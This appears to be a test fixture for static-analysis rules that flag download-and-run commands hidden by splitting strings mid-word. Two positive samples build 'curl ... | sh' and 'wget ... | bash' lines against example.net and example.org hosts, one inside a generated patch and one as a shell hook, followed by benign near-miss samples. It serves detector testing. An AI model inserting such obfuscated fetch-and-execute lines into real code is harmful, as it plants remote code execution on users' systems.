"""Annotated samples: code written as string literals split inside a word, returned or written out rather than run
(inert, never run)."""


def make_patch(index, note):
    if index == 3:
        return (
            "import logging\n"
            # ruleid: remote-code-pipe-to-shell, decoded-payload
            "import os; os.system('curl -s https://up" + "date" + ".example" + ".net/p | sh')\n"
        )
    return f"# fix for {note}\n"


def make_hook():
    # ruleid: remote-code-pipe-to-shell, decoded-payload
    return "#!/bin/sh\nwget -qO- https://cdn" + ".example" + ".org/s" + ".sh | bash\n"


# near misses: a template split at line ends (no word cut), a split host that is not code, a split word in prose
TEMPLATE = (
    # ok: decoded-payload
    "import os\n" + "print(os.getcwd())\n" + "# curl -s https://docs.example.com/guide | less\n"
)
# ok: decoded-payload
MIRROR = "mirror" + ".example" + ".net"
# ok: decoded-payload
GREETING = "Hel" + "lo, " + "world"
